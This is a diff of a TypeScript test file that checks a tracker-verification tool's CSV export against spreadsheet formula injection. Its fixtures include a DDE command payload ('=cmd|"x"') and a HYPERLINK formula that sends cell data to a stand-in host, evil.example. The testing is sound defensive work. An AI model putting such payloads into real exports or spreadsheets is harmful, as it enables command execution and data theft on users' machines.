@@ -1,31 +1,27 @@
 import { describe, expect, it } from 'vitest';
 
-import { checkRequests } from '@/lib/core/verification/check-requests';
 import { exportCsv } from '@/lib/core/verification/export-csv';
 import { exportJson } from '@/lib/core/verification/export-json';
-import { judge } from '@/lib/core/verification/verdict';
+import { judgeRecording } from '@/lib/core/verification/judge-recording';
 import { findingSentence } from '@/lib/text/findings';
 
-import { pageView, request, START, tracker, verification } from './build';
+import { known, pageView, request, START, tracker, verification } from './build';
 
 const pageViews = [pageView('a', START)];
-const requests = checkRequests(
-  [
-    request(
-      'https://ib.adnxs.com/imptr?id=531&t=2&cachebuster=%3D1%2B1&x=a%2Cb&redir=https://y/?a=1',
-    ),
-    request('https://ib.adnxs.com/imptr?id=532&t=2&cachebuster=[CACHEBUSTER]'),
-  ],
-  pageViews,
-  { byId: new Map([[531, tracker(531, { name: '=cmd|"x"' })]]), loaded: true },
+const recording = judgeRecording(
+  {
+    verification: verification({ expectedIds: [531, 777] }),
+    pageViews,
+    requests: [
+      request(
+        'https://ib.adnxs.com/imptr?id=531&t=2&cachebuster=%3D1%2B1&x=a%2Cb&redir=https://y/?a=1',
+      ),
+      request('https://ib.adnxs.com/imptr?id=532&t=2&cachebuster=[CACHEBUSTER]'),
+    ],
+  },
+  known(tracker(531, { name: '=cmd|"x"' })),
+  'all',
 );
-const recording = {
-  verification: verification({ expectedIds: [531, 777] }),
-  pageViews,
-  requests,
-  verdicts: judge([531, 777], requests, 'all'),
-  names: new Map([[531, '=cmd|"x"']]),
-};
 
 describe('exportCsv', () => {
   const lines = exportCsv(recording, findingSentence).split('\r\n');
@@ -45,8 +41,8 @@ describe('exportCsv', () => {
   it('whatever a page puts into its addresses, no piece of a cell is a formula', () => {
     const url =
       'https://ib.adnxs.com/imptr?id=%EF%BC%9D1%2B1&t=%0A%3D1&cachebuster=1;=HYPERLINK("http://evil.example/?"%26A1);';
-    const evil = checkRequests([request(url)], pageViews, { byId: new Map(), loaded: true });
-    const text = exportCsv({ ...recording, requests: evil, verdicts: [] }, findingSentence);
+    const evil = { verification: verification(), pageViews, requests: [request(url)] };
+    const text = exportCsv(judgeRecording(evil, known()), findingSentence);
     expect(text).toContain(",'＝1+1,");
     expect(text).toContain(`;'=HYPERLINK(`);
     expect(text).not.toMatch(/(?:^|[;,\t\r\n])["\s]*[=+\-@＝＋－＠]/);
